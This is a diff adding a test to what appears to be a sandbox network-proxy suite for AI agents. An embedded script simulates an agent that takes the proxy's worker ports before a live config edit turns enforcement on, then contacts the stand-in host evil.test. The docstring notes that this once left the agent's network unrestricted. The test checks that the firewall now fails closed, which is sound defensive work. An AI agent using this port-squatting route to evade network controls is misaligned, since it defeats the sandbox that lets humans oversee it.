@@ -261,3 +261,73 @@ def test_a_worker_killed_again_and_again_lets_nothing_out_unjudged_or_unlogged(r
     starts = {p for (p, ph), n in phases.items() if ph == "start" and n == 1}
     assert starts >= got and all(n == 1 for n in phases.values()), phases
     assert run.s.wait(timeout=30) == 0, run.s.stderr
+
+
+# The agent at level none (rules off, no log: the network untouched, no interceptor
+# running) takes the worker ports, IPv4 and IPv6, before the user's live edit turns
+# the rules on and starts the workers; then asks a refused host, straight.
+SQUATTER = r"""
+import json, os, socket, ssl, sys, time
+held = []
+for host, port in [("127.0.0.1", 58080), ("127.0.0.1", 58081), ("::1", 58080), ("::1", 58081)]:
+    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
+    s.bind((host, port)); s.listen(64); held.append(s)
+print("SQUATTING", flush=True)
+while not os.path.exists("/tmp/go"):
+    time.sleep(0.05)
+ctx = ssl.create_default_context(cafile="/ca/upstream-ca.pem")
+for i in range(3):
+    try:
+        c = ctx.wrap_socket(socket.create_connection(("evil.test", 443), timeout=3),
+                            server_hostname="evil.test")
+        c.sendall(f"GET /after-edit/{i} HTTP/1.1\r\nHost: evil.test\r\n\r\n".encode())
+        out = c.recv(100).split(b"\r\n")[0].decode()
+    except Exception as exc:
+        out = type(exc).__name__
+    print(json.dumps({"i": i, "out": out}), flush=True)
+print("END", flush=True)
+"""
+
+
+def test_worker_ports_taken_before_a_live_edit_turns_the_rules_on_fail_closed(internet):
+    """A live edit from rules off to enforce starts the workers; the agent, free until
+    then, holds their ports first, so no worker can start. The new level used to be
+    left out of force (the network untouched, the agent free for the rest of the run);
+    now the firewall moves to it anyway: traffic fails closed (the agent meets only
+    its own listener) and nothing reaches the refused host."""
+    project = Path(tempfile.mkdtemp(prefix="sp-proj-", dir="/tmp"))
+    os.chmod(project, 0o755)
+    try:
+        write_config(project, {"enabled": False, "workers": 2})
+        argv = ["--network-config-write", "--", *client_script(SQUATTER)]
+        with Session(project, argv, internet) as s:
+            s.wait_for(lambda ln: ln == "SQUATTING", timeout=60)
+            write_config(project, {**enforce("api.github.com"), "workers": 2}, approve=False)
+            t0 = time.monotonic()
+            deadline = t0 + 60
+            while True:
+                log = s.root(["cat", "/var/log/secure-proxy/reloader.log"]).stdout
+                if "in force" in log:
+                    break
+                assert time.monotonic() < deadline, log
+                time.sleep(0.3)
+            # Failed fast (a worker that exits at start is not waited on for 60 s).
+            assert "firewall level full in force, failing closed" in log, log
+            assert time.monotonic() - t0 < 30, log
+            assert s.root(["touch", "/tmp/go"]).returncode == 0
+            outs = [
+                json.loads(x)["out"]
+                for x in [s.wait_for(lambda ln: ln.startswith("{")) for _ in range(3)]
+            ]
+            s.wait_for(lambda ln: ln == "END")
+            assert "HTTP/1.1 200 OK" not in outs, outs
+            nat = s.root(["iptables-legacy-save", "-t", "nat"]).stdout
+            assert "--to-ports 58081" in nat, (nat, log)
+        arrived = [
+            r["path"]
+            for r in read_records(internet.record)
+            if r.get("ev") == "request" and r["path"].startswith("/after-edit/")
+        ]
+        assert arrived == [], arrived
+    finally:
+        shutil.rmtree(project, ignore_errors=True)
